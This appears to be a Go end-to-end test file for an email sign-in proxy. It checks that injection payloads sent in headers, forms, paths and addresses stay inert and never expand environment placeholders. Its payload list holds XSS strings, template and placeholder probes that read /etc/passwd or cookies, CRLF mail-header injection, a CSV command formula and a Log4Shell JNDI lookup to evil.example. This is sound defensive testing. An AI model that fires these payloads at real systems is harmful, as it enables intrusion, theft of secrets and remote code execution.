package e2e_test

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/postern-auth/postern/e2e/postern"
)

// canary is in the environment of the program, and nowhere in a request: who
// sees it has expanded a placeholder.
const canary = "canary-of-the-environment"

// injections are what pages, mails, headers and logs may take for markup,
// templates or placeholders.
var injections = []string{
	"<script>alert(1)</script>", "</script><script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, `'><svg/onload=alert(1)>`, `" autofocus onfocus=alert(1) x="`, `' onmouseover='alert(1)`, "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
	"</textarea><script>alert(1)</script>", "<!--", "-->", "]]>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example>", "<iframe srcdoc=x>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "&lt;script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "%3Cscript%3E", "<\x00script>", "＜script＞", "<ſcript>", "`+alert(1)+`", "${alert(1)}", "'-alert(1)-'", "\u2028alert(1)\u2029",
	"{{.Email}}", "{{.}}", `{{printf "%v" .}}`, `{{define "main"}}x{{end}}`, `{{template "layout" .}}`, "{{env \"CANARY\"}}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% 7*7 %}", "%s%s%n%d", "%!s(MISSING)",
	"{env.CANARY}", "{$CANARY}", "{%CANARY%}", "{{env.CANARY}}", "{{env.CANARY}", "{env.{http.request.host}}", `\{env.CANARY\}`, "{env.CANARY:x}", "{http.request.host}", "{http.request.header.Cookie}", "{http.request.cookie.postern_session}", "{http.vars.client_ip}", "{http.auth.user.email}", "{http.request.tls.client.subject}", "{file./etc/passwd}", "{system.hostname}", "{time.now.year}", "{args[0]}",
	"=cmd|'/c calc'!A0", "=?utf-8?q?=3Cscript=3E?=", "x\r\nBcc: eve@evil.example", "x\nSubject: owned", "x\r\n\r\n<script>alert(1)</script>", "\x1b[2J\x1b]0;owned\x07", "\u202egnp.exe", "..%2f..%2fetc/passwd", "' OR 1=1--", "${jndi:ldap://evil.example/x}",
}

// skeleton is a page without its texts: the elements and the names of their
// attributes. Whatever a value has brought in shows there.
func skeleton(t *testing.T, page string) string {
	t.Helper()
	var out strings.Builder
	tokens := html.NewTokenizer(strings.NewReader(page))
	for {
		switch kind := tokens.Next(); kind {
		case html.ErrorToken:
			return out.String()
		case html.StartTagToken, html.EndTagToken, html.SelfClosingTagToken, html.CommentToken, html.DoctypeToken:
			token := tokens.Token()
			fmt.Fprintf(&out, "%s %s", kind, token.Data)
			for _, attribute := range token.Attr {
				fmt.Fprintf(&out, " %s", attribute.Key)
				if attribute.Key == "action" || attribute.Key == "src" || attribute.Key == "href" && strings.Contains(attribute.Val, ":") {
					place, _, _ := strings.Cut(attribute.Val, "?") // a token follows
					out.WriteString("=" + place)
				}
			}
			out.WriteString("\n")
		}
	}
}

// wantInert looks for a canary that was let out.
func wantInert(t *testing.T, what, text string) {
	t.Helper()
	if i := strings.Index(text, canary); i >= 0 {
		t.Errorf("%s: a placeholder was expanded: …%s…", what, text[max(0, i-100):i+len(canary)])
	}
}

// TestInjections puts every payload wherever a request can carry one, and
// compares each page with the one of a harmless value.
func TestInjections(t *testing.T) {
	t.Parallel()
	upstream := postern.StartUpstream(t)
	server := postern.Start(t, postern.Config{
		Upstream: upstream, Env: []string{"CANARY=" + canary, "canary=" + canary}, Auth: noLimits + "\nsame_browser off",
		Sites: strings.Replace(plain, "*@example.com", "anyone {\n\t\tdeny *@denied.example\n\t\theader X-Who {http.auth.user.email}\n\t\theader X-Agent {http.request.header.User-Agent}\n\t}", 1),
	})
	base := visitor(t, server)
	box := newPostbox(server.MailDir())
	harmless := pagesOf(t, box, base, -1, "harmless")
	for i, payload := range injections {
		got := pagesOf(t, box, base, i, payload)
		for name, page := range got {
			wantInert(t, fmt.Sprintf("%q, %s", payload, name), page)
			if want := skeleton(t, harmless[name]); skeleton(t, page) != want {
				t.Errorf("%q changes the page %q:\n%s", payload, name, difference(want, skeleton(t, page)))
			}
		}
	}
	wantInert(t, "the log", server.Logs.Text())
	for _, seen := range upstream.Seen() {
		wantInert(t, "the upstream", fmt.Sprint(seen.URI, seen.Header))
	}
}

// pagesOf returns all pages that a payload can be on, and the mail.
func pagesOf(t *testing.T, box *postbox, base *postern.Visitor, i int, payload string) map[string]string {
	t.Helper()
	v := base.Fresh()
	text := strings.Map(func(r rune) rune { // what net/http would not send
		if r < ' ' || r == 0x7f {
			return ' '
		}
		return r
	}, payload)
	do := func(request *http.Request) *postern.Answer {
		request.Header.Set("User-Agent", text)
		request.Header.Set("Accept-Language", text)
		request.Header.Set("Referer", text)
		request.Header.Set("X-Payload", text)
		answer := v.Do(request)
		if answer.Status >= 500 {
			t.Errorf("%q: status %d of %s", payload, answer.Status, answer.URL)
		}
		wantInert(t, "headers", fmt.Sprint(answer.Header))
		return answer
	}
	get := func(path string) *postern.Answer {
		return do(v.AsNavigation(v.NewRequest(http.MethodGet, path, nil), "cross-site"))
	}
	post := func(path string, form url.Values) *postern.Answer { return do(v.Form(path, form)) }
	escaped := url.QueryEscape(payload)
	pages := map[string]string{
		"form":           get("/.auth/sign-in?prompt=" + escaped + "&return_to=/?" + escaped).Body,
		"no address":     post("/.auth/sign-in", url.Values{"email": {payload + "@"}, "return_to": {"/?x=" + escaped}}).Body,
		"no page":        get("/.auth/" + url.PathEscape(payload)).Body,
		"no link":        get("/.auth/link?token=" + escaped).Body,
		"no request":     get("/.auth/code?request=" + escaped + "&return_to=/?" + escaped).Body,
		"no form at all": post("/save?"+escaped, url.Values{"x": {payload}}).Body,
	}
	email := fmt.Sprintf("p%d@example.com", i)
	if strings.Trim(payload, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!#$%&'*+-/=?^_`{|}~") == "" {
		email = fmt.Sprintf("%s%d@example.com", strings.ToLower(payload), i) // as {env.canary}0
		if payload == "{env.CANARY}" {
			email = "{env.canary}@example.com"
		}
	}
	started := post("/.auth/sign-in", url.Values{"email": {email}, "return_to": {"/a?x=" + escaped}}).Want(t, http.StatusSeeOther)
	location, _ := url.Parse(started.Location())
	request := location.Query().Get("request")
	postern.Eventually(t, delivery, "mail to "+email, func() bool { return len(box.to(t, email)) > 0 })
	mail := box.to(t, email)[0]
	if strings.Contains(mail.Text, evil) && !strings.Contains(payload, evil) || mail.To != email || len(mail.Header.Values("Bcc"))+len(mail.Header.Values("Subject")) != 1 {
		t.Errorf("%q: the mail is\n%s", payload, mail.Raw)
	}
	pages["mail"], pages["code page"] = mail.HTML, get(started.Location()).Body
	wantInert(t, "mail", mail.Text+mail.HTML+string(mail.Raw))
	pages["wrong code"] = post("/.auth/verify", url.Values{"request": {request}, "code": {payload + "x"}}).Body
	other := *v
	v = base.Fresh()
	pages["confirm"] = get(mail.Link).Body
	v = &other
	entered := post("/.auth/verify", url.Values{"request": {request}, "code": {mail.Code}}).Want(t, http.StatusSeeOther)
	wantOwnPlace(t, payload, entered.Location())
	pages["account"] = get("/.auth/").Want(t, http.StatusOK).Body
	get("/x?"+escaped).Want(t, http.StatusOK)
	if me := v.Me(); me != email {
		t.Errorf("%q: signed in as %q, want %q", payload, me, email)
	}
	return pages
}

// TestPlaceholdersInAddresses signs in as addresses that look like placeholders,
// and sees them everywhere as they are.
func TestPlaceholdersInAddresses(t *testing.T) {
	t.Parallel()
	upstream := postern.StartUpstream(t)
	server := postern.Start(t, postern.Config{
		Upstream: upstream, Env: []string{"canary=" + canary}, Auth: noLimits,
		Sites: `
http://localhost:$HTTP {
	email_auth anyone {
		header X-Who {http.auth.user.email}
	}
	reverse_proxy $UPSTREAM {
		header_up X-Twice {http.auth.user.id}
		header_down X-Back {http.auth.user.email}
	}
	log
}`,
	})
	for i, email := range []string{"{env.canary}@example.com", "{http.request.host}@example.com", "{http.auth.user.id}@example.com", "{file./etc/passwd}@example.com", "{{env.canary}}@example.com", "{$canary}@example.com", "{http.request.header.x-evil}@example.com"} {
		v := visitor(t, server)
		v.SignIn(email)
		request := v.NewRequest(http.MethodGet, fmt.Sprintf("/x?%d", i), nil)
		request.Header.Set("X-Evil", canary)
		answer := v.Do(request).Want(t, http.StatusOK)
		seen := upstream.Last(t, fmt.Sprintf("/x?%d", i))
		for _, name := range []string{"Remote-User", "Remote-Email", "X-Who", "X-Twice"} {
			if got := seen.Get(t, name); got != email {
				t.Errorf("%s: %s is %q", email, name, got)
			}
		}
		if got := answer.Header.Get("X-Back"); got != email {
			t.Errorf("%s: X-Back is %q", email, got)
		}
		if got := server.Logs.WaitAccess(t, fmt.Sprintf("/x?%d", i)).Field("user_id"); got != email {
			t.Errorf("%s: the access log has user_id %q", email, got)
		}
		v.Navigate("/.auth/").Want(t, http.StatusOK).WantText(t, email)
	}
}
